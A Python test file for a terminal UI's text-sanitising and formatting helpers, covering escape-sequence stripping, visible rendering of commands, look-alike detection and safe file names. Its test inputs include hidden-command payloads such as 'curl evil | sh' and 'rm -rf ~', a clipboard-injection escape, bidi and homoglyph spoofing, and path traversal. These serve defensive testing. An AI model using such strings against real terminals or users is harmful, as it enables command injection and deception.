from __future__ import annotations

import re
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from gemtui.text import (
    Clean,
    cells,
    clean,
    clean_line,
    command_line,
    counted,
    duration,
    ellipsis,
    file_name,
    holds_controls,
    look_alikes,
    one_line,
    or_list,
    relative,
    size,
    visible,
    visible_line,
)
from tests.rows import each_row

CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FORBIDDEN = (set(CONTROLS) - set("\n\t")) | set(BIDI) | set("\u2028\u2029")

SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"

PIECES = [SCOTLAND, *"\u200b\u200c\u200d\ufe0f\U000e0041\U0001f3f4\u2764\u0645\xad", "\x1b[31m"]
PIECES += ["\u2028", "\u2029", "\ud83d", "\udc00", "\r\n", "\x1b\\", "\x1b[", "\x1b]52;c;"]
PIECES += ["\x1bP", "\x1b_", "\x9b3", "\x9d0;", "\x9c", "31m", "[", "]", *CONTROLS, *BIDI]
foreign = st.lists(st.one_of(st.text(), st.text(st.characters()), st.sampled_from(PIECES))).map(
    "".join
)


@given(foreign)
def test_nothing_that_controls_a_terminal_is_left(text: str) -> None:
    cleaned = clean(text)
    assert not FORBIDDEN & set(cleaned)
    cleaned.encode()  # no lone surrogate


@given(foreign)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    assert clean(clean(text)) == clean(text)
    assert clean_line(clean_line(text)) == clean_line(text)


@given(st.text(st.characters(exclude_categories=["C", "Zl", "Zp"])))
def test_harmless_text_is_kept_as_it_is(text: str) -> None:
    assert clean(text) == text


@each_row(
    ("text", "cleaned"),
    [
        ("a\tb\nc", "a\tb\nc"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b[38;2;1;2;3mx\x1b[4:3my", "xy"),
        ("\x9b31mred\x9b0m", "red"),
        ("\x1b[01;31m\x1b[Kfound\x1b[m\x1b[K", "found"),
        ("\x1b[31", "␛[31"),
        ("\x1b[31é", "␛[31é"),
        ("\x1b", "␛"),
        ("\x1b(Bx\x1b7y\x1bcz", "␛(Bx␛7y␛cz"),
        ("a\x1b[2J\x1b[Hb\x1b[1Kc", "a␛[2J␛[Hb␛[1Kc"),
        ("a\x1b]52;c;cm0gLXJm\x07b", "a␛]52;c;cm0gLXJm␇b"),
        ("a\x1b]0;title\x1b\\b", "a␛]0;title␛\\b"),
        ("a\x9d0;title\x9cb", "a⟨U+009D⟩0;title⟨U+009C⟩b"),
        ("a\x1bPq#0;2\x1b\\b\x1b_apc", "a␛Pq#0;2␛\\b␛_apc"),
        ("ls -la \x1b]0 ; curl evil | sh", "ls -la ␛]0 ; curl evil | sh"),
        ("a\x1b]52;c;\x1b[31mb", "a␛]52;c;b"),
        ("\x1b\x1b[31m[31m", "␛[31m"),
        ("one\r\ntwo\rthree\x85four\u2028five\u2029six", "one\ntwo\nthree\nfour\nfive\nsix"),
        ("a\x00b\x07c\x08d\x7fe\x0bf", "a␀b␇c␈d␡e␋f"),
        ("\ud800x", "\ufffdx"),
        ("abc\u202egnp.exe", "abc⟨U+202E⟩gnp.exe"),
        ("\u2066a\u2069\u200e\u061cb", "⟨U+2066⟩a⟨U+2069⟩⟨U+200E⟩⟨U+061C⟩b"),
        ("a\U000e0068\U000e0069b", "a⟨U+E0068⟩⟨U+E0069⟩b"),
        (SCOTLAND, SCOTLAND),
        ("soft\xadhyphen, ไทย\u200bไทย", "soft\xadhyphen, ไทย\u200bไทย"),
        ("👨\u200d👩\u200d👧 نص", "👨\u200d👩\u200d👧 نص"),
    ],
)
def test_clean(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned


@given(foreign)
def test_cleaning_removes_only_colours_and_line_ends(text: str) -> None:
    plain = "".join(char for char in text if char.isprintable() and char not in "m0123456789:;[K")
    position = 0
    cleaned = clean(text)
    for char in plain:
        position = cleaned.index(char, position) + 1


@each_row(
    ("command", "shown"),
    [
        ("ls -la \x1b]0 ; curl evil | sh", "ls -la ␛]0 ; curl evil | sh"),
        ("ls \x1b]0;x\x07; rm -rf ~", "ls ␛]0;x␇; rm -rf ~"),
        ("ec\x1b[8mho\x1b[0m", "ec␛[8mho␛[0m"),
        ("a\rb\r\nc\x85d\u2028e\u2029f", "a␍b␍\nc⟨U+0085⟩d⟨U+2028⟩e⟨U+2029⟩f"),
        (
            "rm a\u200bb \xad \u2060 \ufeff \u3164",
            "rm a⟨U+200B⟩b ⟨U+00AD⟩ ⟨U+2060⟩ ⟨U+FEFF⟩ ⟨U+3164⟩",
        ),
        ("a\ufe0f\u200db", "a⟨U+FE0F⟩⟨U+200D⟩b"),
        ("a\u200db, 👍\U000e0101", "a⟨U+200D⟩b, 👍⟨U+E0101⟩"),
        ("👍\ufe0f\ufe01", "👍\ufe0f⟨U+FE01⟩"),
        ("\udc9b\u202e", "\ufffd⟨U+202E⟩"),
        ("ls\xa0x/e.sh \u1680\u2000\u200a", "ls⟨U+00A0⟩x/e.sh ⟨U+1680⟩⟨U+2000⟩⟨U+200A⟩"),
        ("a\u202fb\u205fc\u3000d", "a⟨U+202F⟩b⟨U+205F⟩c⟨U+3000⟩d"),
    ],
)
def test_every_character_of_a_command_can_be_seen(command: str, shown: str) -> None:
    assert visible(command) == shown
    assert holds_controls(command)
    assert command_line(command) == f"[contains control characters] {visible_line(command)}"


@pytest.mark.parametrize(
    "command",
    [
        "",
        "git commit -m 'ä 日本 👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥 1\ufe0f\u20e3 می\u200cخواهم'",
        f"echo {SCOTLAND}",
        "cat <<EOF\n\tindented\nEOF\n",
    ],
)
def test_an_honest_command_is_shown_as_it_is(command: str) -> None:
    assert visible(command) == command
    assert not holds_controls(command)
    assert command_line(command) == visible_line(command)


def test_blanks_in_prose_stay_as_they_are() -> None:
    assert clean("10\xa0km, 漢字\u3000漢字\u202f!") == "10\xa0km, 漢字\u3000漢字\u202f!"


@each_row(
    ("text", "described"),
    [
        ("cat p\u0430ypal.py", ["`p\u0430ypal` mixes Latin and Cyrillic letters"]),
        ("src/\u03bfpen.ts", ["`\u03bfpen` mixes Latin and Greek letters"]),
        ("config_\u0430.txt", ["`config_\u0430` mixes Latin and Cyrillic letters"]),
        (
            "x\u0430 x\u0430 y\u0440\u03bf",
            ["`x\u0430`", "`y\u0440\u03bf` mixes Latin and Cyrillic and Greek"],
        ),
        ("cat привет.txt λόγος/größe 漢字 10µm naïve", []),
        ("", []),
    ],
)
def test_words_of_mixed_scripts_are_pointed_out(text: str, described: list[str]) -> None:
    found = look_alikes(text)
    assert len(found) == len(described)
    assert all(each.startswith(start) for each, start in zip(found, described, strict=True))


def test_a_command_on_one_line_shows_where_its_lines_end() -> None:
    assert visible_line("# look\nrm  -rf\tx\n") == "# look␊rm  -rf x"


@given(foreign)
def test_what_is_visible_is_clean_and_stays_so(text: str) -> None:
    shown = visible(text)
    assert visible(shown) == shown
    assert clean(shown) == shown
    assert not holds_controls(shown)
    assert not FORBIDDEN & set(shown)
    shown.encode()


@given(foreign, foreign)
def test_what_differs_looks_different_or_is_marked(one: str, other: str) -> None:
    if one != other and not holds_controls(one) and not holds_controls(other):
        assert visible(one) != visible(other)


@each_row(
    "evil",
    ["\x9d", "\x9d\n", "\x1b]", "\x1b[", "\x1b[1", "\x1b[ ", "\x1b]a\n", "\U0001f3f4\U000e0061"],
)
def test_cleaning_takes_time_in_proportion_to_the_text(evil: str) -> None:
    def seconds(times: int) -> float:
        start = time.process_time()
        clean(evil * times)
        visible(evil * times)
        return time.process_time() - start

    assert min(seconds(20_000) for _ in range(3)) < 60 * min(seconds(2_000) for _ in range(3))


def test_plain_text_is_only_scanned() -> None:
    plain = "A line of plain text, as most of them are: (ä, 日本).\n" * 20_000

    def seconds(work: Callable[[], object]) -> float:
        start = time.process_time()
        work()
        return time.process_time() - start

    fast = min(seconds(lambda: clean(plain)) for _ in range(5))
    floor = min(seconds(lambda: re.findall(r"[^\n]", plain)) for _ in range(2))
    assert fast < floor / 2


def test_clean_line_is_one_line() -> None:
    assert clean_line("  a \n\t b\r\n\u2028c\x1b[0m ") == "a b c␛[0m"


@each_row(
    "text",
    [
        "",
        "plain",
        "日本語 ok",
        "e\u0301",
        "👍🏽!",
        "👨\u200d👩\u200d👧",
        "❤️x",
        "🇩🇪",
        "1️⃣",
        "각",
        "हिन्दी",
        "✓●…·—",
        "ﷺ",
        "\u200b",
    ],
)
def test_cells_agree_with_what_is_drawn(text: str) -> None:
    assert cells(clean(text)) == cell_len(text)


@given(st.text(), st.integers(0, 20), st.sampled_from(["…", "...", ""]))
def test_ellipsis_never_exceeds_the_width(text: str, width: int, mark: str) -> None:
    line = clean_line(text)
    short = ellipsis(line, width, mark=mark)
    assert cells(short) <= width
    if cells(line) <= width:
        assert short == line


def test_ellipsis_cuts_at_the_end() -> None:
    assert ellipsis(Clean("hello world"), 8) == "hello w…"
    assert ellipsis(Clean("hello world"), 7) == "hello…"
    assert ellipsis(Clean("日本語"), 4) == "日…"
    assert ellipsis(Clean("hello"), 4, mark="...") == "h..."
    assert ellipsis(Clean("hello"), 2, mark="...") == ""


@each_row(
    ("ago", "words"),
    [
        (timedelta(seconds=-90), "now"),
        (timedelta(seconds=59), "now"),
        (timedelta(seconds=60), "1m"),
        (timedelta(minutes=119), "1h"),
        (timedelta(hours=23, minutes=59), "23h"),
        (timedelta(days=3, hours=5), "3d"),
        (timedelta(days=7), "1w"),
        (timedelta(days=364), "52w"),
        (timedelta(days=800), "2y"),
    ],
)
def test_relative(ago: timedelta, words: str) -> None:
    now = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
    assert relative(now - ago, now) == words


@each_row(
    ("text", "name"),
    [
        ("Fix the parser", "Fix-the-parser"),
        ("../../etc/passwd", "etc-passwd"),
        ("a\x1b]0;t\x07b\nc\x1b[0m", "a-0-t-b-c-0m"),
        ('x<>:"/\\|?*y', "x-y"),
        ("-rf", "rf"),
        ("con.txt", "_con.txt"),
        ("trailing. ", "trailing"),
        ("...", "untitled"),
        ("", "untitled"),
        ("日本語", "日本語"),
        ("हिन्दी में", "हिन्दी-में"),
        ("Fix a[0], b=@c -- now! ❤️", "Fix-a-0-b-c-now"),
        ("snake_case.py", "snake_case.py"),
    ],
)
def test_file_name(text: str, name: str) -> None:
    assert file_name(text) == name


@given(foreign)
def test_a_file_name_is_always_one_safe_name(text: str) -> None:
    name = file_name(text)
    assert 0 < len(name.encode()) <= 151
    assert not {char for char in name if char.isascii() and not char.isalnum()} - set("._-")
    assert "--" not in name
    assert name[0] not in ".-"
    assert name[-1] not in ".-"


def test_size() -> None:
    sizes = [0, 999, 1000, 1_234_567, 999_949, 999_950, 5 * 10**9]
    assert [size(number) for number in sizes] == [
        "0 B",
        "999 B",
        "1.0 kB",
        "1.2 MB",
        "999.9 kB",
        "1.0 MB",
        "5.0 GB",
    ]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("git  push ", "git  push "),
        ("a\tb\r\nc\u2028d", "a b c d"),
        ("a\x1b[31m  b\x1b]0;x\x07\u202e", "a␛[31m  b␛]0;x␇⟨U+202E⟩"),
    ],
)
def test_a_line_that_keeps_its_blanks(text: str, line: str) -> None:
    assert one_line(text) == line


def test_a_number_stands_with_its_noun() -> None:
    assert [counted(number, "file") for number in (0, 1, 2, 1204)] == [
        *("0 files", "1 file", "2 files", "1,204 files")
    ]
    assert [counted(number, "match", "matches") for number in (1, 2)] == ["1 match", "2 matches"]
    assert [or_list("abc"[:length]) for length in (1, 2, 3)] == ["a", "a or b", "a, b or c"]


@each_row(
    ("seconds", "text"),
    [
        (0, "0 ms"),
        (0.012, "12 ms"),
        (0.9996, "1.0 s"),
        (4.2, "4.2 s"),
        (59.96, "1 m 0 s"),
        (72, "1 m 12 s"),
        (3599.7, "1 h 0 m"),
        (3780, "1 h 3 m"),
    ],
)
def test_durations_are_short(seconds: float, text: str) -> None:
    assert duration(timedelta(seconds=seconds)) == text
